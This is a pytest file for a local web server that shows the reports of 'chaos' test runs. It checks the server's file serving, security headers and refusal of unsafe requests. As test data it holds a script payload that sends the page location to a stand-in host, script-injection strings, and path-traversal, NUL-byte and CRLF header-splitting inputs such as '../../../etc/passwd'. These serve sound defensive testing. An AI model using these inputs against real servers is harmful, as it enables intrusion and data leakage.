"""What is served: pages made of the runs' files, of runs that the directory has, and nothing else of it."""

from __future__ import annotations

import json
import os
import shutil
from http import HTTPStatus
from pathlib import Path

import pytest

from chaos.base.file_lock import FileLock
from chaos.report.page.model import PageData
from chaos.serve import run_pages
from chaos.serve.response import Response
from chaos.serve.runs import RunDirectories
from chaos.serve.site import Site
from chaos.trends.store import FILE as STORE
from chaos.trends.store import changing, put_rows
from tests.kit.runs.many_runs import a_row
from tests.unit.serve.conftest import HOST, RUN, Get

HOSTILE = "<!doctype html><script>fetch('//elsewhere.example/' + location)</script>"


def text(response: Response) -> str:
    assert response.status is HTTPStatus.OK, response
    return response.body.decode()


def test_the_index_links_each_run_and_the_live_view(get: Get) -> None:
    page = text(get(""))
    assert f'href="run/{RUN}/"' in page
    assert '<a href="live/">No runs in progress: live view</a>' in page
    assert "latest" not in page
    assert "<li>hang</li>" in page, "a kind that no run has shown is listed"


def test_times_over_nights_are_made_of_the_store_and_of_the_runs_beside_it(get: Get, reports: Path) -> None:
    assert '<a href="trends.html">Times over nights</a>' in text(get(""))
    (reports / "trends.html").write_text(HOSTILE)
    page = text(get("trends.html"))
    assert f'"report":"run/{RUN}/"' in page and '<a href="./">All runs</a>' in page
    assert "elsewhere.example" not in page
    rows = [a_row(number, headline="</script><script>x") for number in range(6)]
    with changing(reports / STORE) as connection:
        put_rows(connection, rows)
    shutil.rmtree(reports / RUN)
    (reports / "odd").mkdir()
    (reports / "odd" / "plan.json").write_text("{}")
    (reports / "odd" / "result.json").write_text('{"schema_version": "<b>"}')
    before = {path: path.lstat().st_mtime_ns for path in reports.iterdir()}
    page = text(get("trends.html"))
    assert rows[0].run in page and RUN not in page and page.count("<script>x") == 0
    assert '"report":null' in page and "odd/result.json: is not a result" in page
    assert {path: path.lstat().st_mtime_ns for path in reports.iterdir()} == before, "nothing is written"
    (reports / STORE).write_bytes(b"")
    assert "runs.sqlite: is damaged (it is empty)" in text(get("trends.html"))


def test_a_store_of_another_user_or_version_is_told_and_not_read(
    get: Get, reports: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with changing(reports / STORE) as connection:
        connection.execute("PRAGMA user_version = 99")
    assert b"was written by a newer chaos" in get("trends.html").body
    monkeypatch.setattr(RunDirectories, "owners", lambda _: {os.geteuid() + 1})
    answer = get("trends.html")
    assert (answer.status, answer.kind) == (HTTPStatus.NOT_FOUND, "text/plain; charset=utf-8")
    assert f"belongs to user {os.geteuid()}, and is not read".encode() in answer.body


def test_the_index_is_that_of_the_present_state(get: Get, reports: Path) -> None:
    assert "1 run," in text(get(""))
    shutil.copytree(reports / RUN, reports / "kill-rank-20261128-085928-e324")
    assert "2 runs," in text(get(""))
    result = json.loads((reports / "kill-rank-20261128-085928-e324" / "result.json").read_text())
    (reports / "kill-rank-20261128-085928-e324" / "result.json").write_text(
        json.dumps({**result, "verdict": "fail", "reason": "the losses differ"})
    )
    assert "the losses differ" in text(get(""))
    shutil.rmtree(reports / "kill-rank-20261128-085928-e324")
    assert "1 run," in text(get(""))


def test_a_run_has_its_page_its_result_and_its_trace(get: Get, reports: Path) -> None:
    page = text(get(f"run/{RUN}/"))
    assert '<a href="../../">All runs</a>' in page and "kill-rank" in page
    assert get(f"run/{RUN}/result.json").body == (reports / RUN / "result.json").read_bytes()
    trace = get(f"run/{RUN}/trace.json")
    assert json.loads(trace.body)["traceEvents"]
    assert trace.more["Content-Disposition"] == f'attachment; filename="{RUN}.trace.json"'


def test_a_page_on_disk_has_no_links_to_the_server(get: Get, reports: Path) -> None:
    from chaos.checks.judge import judge
    from chaos.report.analyze import result_of
    from chaos.report.page.write import write_page

    run = reports / RUN
    judgement = judge(run)
    assert "All runs" not in write_page(run, judgement, result_of(run, judgement)).read_text()


def test_a_report_that_lies_in_the_directory_is_never_served(get: Get, reports: Path) -> None:
    (reports / RUN / "report.html").write_text(HOSTILE)
    (reports / "index.html").write_text(HOSTILE)
    for path in ("", f"run/{RUN}/"):
        assert "elsewhere.example" not in text(get(path))
    for path in ("index.html", f"run/{RUN}/report.html", f"{RUN}/report.html"):
        assert get(path).status is HTTPStatus.NOT_FOUND


@pytest.mark.parametrize(
    "path",
    [
        "run/../",
        "run/%2e%2e/",
        "run/./",
        "run//",
        "run/latest/",
        "run/none/",
        f"run/{RUN}%2f..%2foutside/",
        "run/..%2foutside/",
        "run/%2fetc/",
        f"run/{RUN}%00/",
        f"run/{RUN}/../../../etc/passwd",
        "run/",
        f"run/{RUN}/run.json",
        f"run/{RUN}/plan.json",
        f"run/{RUN}/%2e%2e%2foutside%2fresult.json",
        f"run/{RUN}/history/harness.jsonl",
        f"run/{RUN}/.lock",
        "run/outside/",
        "../",
        "%2e%2e/",
        "run/.git/",
        "run/none",
        f"run/{RUN}%0d%0aX:y",
        "runs.sqlite",
        "x/y/z",
        "run/\xe9/",
        "run/%ff/",
    ],
)
def test_nothing_else_is_served(get: Get, reports: Path, path: str) -> None:
    (reports / "outside").symlink_to(reports / RUN)
    shutil.copytree(reports / RUN, reports / ".git")
    shutil.copytree(reports / RUN, reports.parent / "outside")
    (reports / "runs.sqlite").touch()
    assert (get(path).status, get(path).body) == (HTTPStatus.NOT_FOUND, b"Not Found\n")


def test_a_directory_that_is_no_run_is_none(get: Get, reports: Path) -> None:
    (reports / "without").mkdir()
    (reports / "without" / "result.json").write_text("{}")
    (reports / "linked").mkdir()
    (reports / "linked" / "plan.json").symlink_to(reports / RUN / "plan.json")
    for name in ("without", "linked"):
        assert get(f"run/{name}/").body == b"Not Found\n"
        assert name not in text(get(""))


def test_a_linked_result_is_told_and_not_read(get: Get, reports: Path) -> None:
    result = reports / RUN / "result.json"
    result.rename(reports / "moved.json")
    result.symlink_to(reports / "moved.json")
    answer = get(f"run/{RUN}/result.json")
    assert answer.status is HTTPStatus.NOT_FOUND and b"links are not followed" in answer.body
    assert "links are not followed" in text(get(""))


def test_a_run_of_another_user_is_named_and_not_shown(get: Get, reports: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    shutil.copytree(reports / RUN, reports / "planted")
    genuine = Path.lstat

    def planted(path: Path) -> os.stat_result:
        status = genuine(path)
        if path != reports / "planted":
            return status
        return os.stat_result((*status[:4], status.st_uid + 1, *status[5:]))

    monkeypatch.setattr(Path, "lstat", planted)
    assert get("run/planted/").status is HTTPStatus.NOT_FOUND
    page = text(get(""))
    assert f"planted: belongs to user {os.geteuid() + 1}, and is not shown" in page and "run/planted/" not in page
    assert f"run/{RUN}/" in page


def test_a_run_without_a_plan_is_told_in_a_sentence(get: Get, reports: Path) -> None:
    (reports / RUN / "plan.json").write_text("{")
    answer = get(f"run/{RUN}/")
    assert answer.status is HTTPStatus.NOT_FOUND and b"plan.json" in answer.body
    assert answer.kind.startswith("text/plain"), "what a file says is never markup"


def test_a_run_in_progress_is_counted_and_leads_to_the_live_view(get: Get, reports: Path) -> None:
    with FileLock.try_acquire(reports / RUN / ".lock") as held:  # type: ignore[union-attr]
        assert held
        answer = get(f"run/{RUN}/")
        assert (answer.status, answer.more["Location"]) == (HTTPStatus.SEE_OTHER, "../../live/")
        assert "1 run in progress" in text(get(""))


def test_a_run_whose_harness_ended_before_the_verdict_is_named_once_it_has_ended(get: Get, reports: Path) -> None:
    (reports / RUN / "result.json").unlink()
    with FileLock.try_acquire(reports / RUN / ".lock") as held:  # type: ignore[union-attr]
        assert held and "its harness ended" not in text(get(""))
    assert f"{RUN}: its harness ended before the verdict" in text(get(""))


def test_a_path_without_its_slash_leads_to_the_page(site: Site, get: Get) -> None:
    assert get(f"run/{RUN}").more["Location"] == f"{RUN}/"
    answer = site.answer("GET", f"/{site.guard.token}", [HOST])
    assert answer.more["Location"] == f"{site.guard.token}/"


def test_a_name_that_is_no_text_is_linked_and_found(get: Get, reports: Path) -> None:
    name = b"\xff<b>\r\nX: y"
    shutil.copytree(reports / RUN, reports / os.fsdecode(name))
    link = "run/%FF%3Cb%3E%0D%0AX%3A%20y/"
    assert f'href="{link}"' in text(get(""))
    assert "<b>" not in text(get(link)).partition("<body>")[2].partition("<main>")[0]
    assert get(link[:-1]).more["Location"] == "%FF%3Cb%3E%0D%0AX%3A%20y/"
    assert "\n" not in get(f"{link}trace.json").more["Content-Disposition"]


def test_a_run_is_judged_again_only_after_its_files_have_changed(
    get: Get, reports: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    made: list[Path] = []
    genuine = run_pages._made

    def counted(path: Path) -> PageData:
        made.append(path)
        return genuine(path)

    monkeypatch.setattr(run_pages, "_made", counted)
    get(f"run/{RUN}/")
    get(f"run/{RUN}/trace.json")
    assert len(made) == 1
    with (reports / RUN / "history" / "harness.jsonl").open("a") as file:
        file.write("\n")
    get(f"run/{RUN}/")
    assert len(made) == 2


@pytest.mark.parametrize("path", ["", f"run/{RUN}/", f"run/{RUN}/result.json", "nothing"])
def test_every_answer_forbids_caches_frames_guesses_and_referrers(get: Get, path: str) -> None:
    headers = dict(get(path).headers())
    assert headers["Cache-Control"] == "no-store"
    assert headers["Referrer-Policy"] == "no-referrer"
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["X-Frame-Options"] == "DENY"
    policy = headers["Content-Security-Policy"]
    assert policy.startswith("default-src 'none'") and policy.endswith("frame-ancestors 'none'")
    assert "unsafe" not in policy and "*" not in policy


def test_what_the_browser_has_is_not_sent_again(get: Get) -> None:
    first = get(f"run/{RUN}/result.json")
    assert first.tag
    assert get(f"run/{RUN}/result.json", known=f'"other", {first.tag}').status is HTTPStatus.NOT_MODIFIED
    assert get(f"run/{RUN}/result.json", known='"other"').body == first.body


def test_a_page_that_cannot_be_made_is_told_without_the_token(
    site: Site, get: Get, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(site, "_runs", None)
    assert get(f"run/{RUN}/").status is HTTPStatus.INTERNAL_SERVER_ERROR
    answer = capsys.readouterr().err
    assert "chaos: a page could not be made: AttributeError" in answer
    assert site.guard.token not in answer
